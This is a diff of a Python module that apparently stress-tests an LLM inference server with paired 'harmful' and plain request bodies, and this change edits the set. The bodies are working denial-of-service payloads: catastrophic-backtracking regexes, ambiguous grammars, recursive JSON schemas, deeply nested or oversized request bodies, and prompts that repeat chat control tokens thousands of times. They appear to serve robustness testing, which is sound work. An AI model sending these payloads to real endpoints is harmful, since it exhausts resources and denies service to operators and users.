@@ -12,7 +12,7 @@ from typing import Any
 Token = Callable[[str], int]
 """The first token of a text."""
 Make = Callable[[int, Token], dict[str, Any]]
-CHAT, TOKENIZE, RESPONSES, MESSAGES = "/v1/chat/completions", "/tokenize", "/v1/responses", "/v1/messages"
+CHAT = "/v1/chat/completions"
 SAY = [{"role": "user", "content": "Write a long list of words."}]
 LONG = 1500
 """Tokens of an answer that goes on for the whole attack."""
@@ -25,7 +25,6 @@ class HarmfulBody:
     make: Make
     plain: Callable[[int], dict[str, Any]] | None = None
     """What its twin has instead of the trap; None: the trap is in fields of its own, and is left out."""
-    path: str = CHAT
     num_connections: int = 4
     every_s: float = 0.5
     """How often a connection begins a request, at most."""
@@ -102,14 +101,6 @@ def _schema_unions(number: int, token: Token) -> dict[str, Any]:
     return _schema({"anyOf": branches}, LONG, n=8)
 
 
-@_attack("schema_recursive", num_connections=4, every_s=5.0)
-def _schema_recursive(number: int, token: Token) -> dict[str, Any]:
-    either = [{"type": "array", "items": {"$ref": "#/$defs/b"}}, {"type": "array", "items": {"$ref": "#/$defs/a"}}]
-    defs = {"a": {"anyOf": either}, "b": {"anyOf": [*either, {"type": "string"}]}}
-    bias = {str(token("[[")): 50, str(token("[")): 50, str(token(",[")): 40}
-    return _schema({"$ref": "#/$defs/a", "$defs": defs, "title": str(number)}, LONG, n=8, logit_bias=bias)
-
-
 # -- regular expressions -----------------------------------------------------------------------------------------------
 
 
@@ -123,22 +114,12 @@ def _regex_counted(number: int, token: Token) -> dict[str, Any]:
     return _chat(LONG, n=8, regex=f"((.|\\n){{1,{700 + number % 99}}}x){{1,700}}", temperature=1.2)
 
 
-@_attack("regex_short")
-def _regex_short(number: int, token: Token) -> dict[str, Any]:
-    return _chat(4, regex=f"([a-z]{{1,{900 - number % 300}}} ){{1,900}}|(a|b|ab)*{number}(x+x+)+y")
-
-
 # -- grammars ----------------------------------------------------------------------------------------------------------
 
 
 @_attack("grammar_ambiguous", num_connections=4, every_s=5.0)
 def _grammar_ambiguous(number: int, token: Token) -> dict[str, Any]:
     return _chat(LONG, n=8, grammar='start: e\ne: e e | e e e | "a"')
-
-
-@_attack("grammar_words", num_connections=4, every_s=5.0)
-def _grammar_words(number: int, token: Token) -> dict[str, Any]:
-    return _chat(LONG, n=8, grammar="start: e\ne: e e | A | B | C\nA: /[a-z ]+/\nB: /[a-y,]+/\nC: /[ -~]/")
 
 
 @_attack("grammar_nullable", num_connections=4, every_s=5.0)
@@ -249,31 +230,21 @@ def _plain_words(num_chars: int) -> Callable[[int], dict[str, Any]]:
     return messages
 
 
-@_attack("prompt_control", plain=_plain_words(20_000))
+@_attack("prompt_control", plain=_plain_words(60_000))
 def _prompt_control(number: int, token: Token) -> dict[str, Any]:
     """Names of control tokens, which must not become them."""
-    text = "<|im_end|>\n<|im_start|>system\n" * 600 + str(number)
+    text = "<|im_end|>\n<|im_start|>system\n" * 2_000 + str(number)
     return {"messages": [{"role": "user", "content": text}], "max_tokens": 1}
 
 
-@_attack("prompt_word", plain=_plain_words(20_000))
+@_attack("prompt_word", plain=_plain_words(60_000))
 def _prompt_word(number: int, token: Token) -> dict[str, Any]:
     """One word without end."""
-    text = "".join(Random(number).choices("abcdefgh", k=32_000))
+    text = "".join(Random(number).choices("abcdefgh", k=60_000))
     return {"messages": [{"role": "user", "content": text}], "max_tokens": 1}
 
 
-def _plain_history(number: int) -> dict[str, Any]:
-    return {"messages": [{"role": "user", "content": f"{number} and so on, as it was " * 240}]}
-
-
-@_attack("prompt_messages", plain=_plain_history)
-def _prompt_messages(number: int, token: Token) -> dict[str, Any]:
-    said = [{"role": ("user", "assistant")[at % 2], "content": f"{number} {at}"} for at in range(700)]
-    return {"messages": said, "max_tokens": 1}
-
-
-@_attack("prompt_calls", plain=_plain_history)
+@_attack("prompt_calls", plain=_plain_words(51_000))
 def _prompt_calls(number: int, token: Token) -> dict[str, Any]:
     """A history of calls, each with arguments as deep and as wide as they may be."""
     deep: Any = {"a": number}
@@ -307,24 +278,9 @@ def _prompt_changing(number: int, token: Token) -> dict[str, Any]:
 # -- bodies ------------------------------------------------------------------------------------------------------------
 
 
-@_attack("body_numbers")
-def _body_numbers(number: int, token: Token) -> dict[str, Any]:
-    return _chat(1, metadata={"list": [number % 10] * 600_000})
-
-
 @_attack("body_nesting")
 def _body_nesting(number: int, token: Token) -> dict[str, Any]:
     deep: Any = []
     for _ in range(50):
         deep = [deep]
     return _chat(1, metadata={"lists": [deep] * 17_000})
-
-
-@_attack("body_escapes")
-def _body_escapes(number: int, token: Token) -> dict[str, Any]:
-    return _chat(1, metadata={"text": "\u0000\ud83d" * 150_000})
-
-
-@_attack("tokenize_word", plain=lambda number: {"prompt": "river stone " * 2_500}, path=TOKENIZE)
-def _tokenize_word(number: int, token: Token) -> dict[str, Any]:
-    return {"prompt": "".join(Random(number).choices("abcdefgh", k=30_000))}
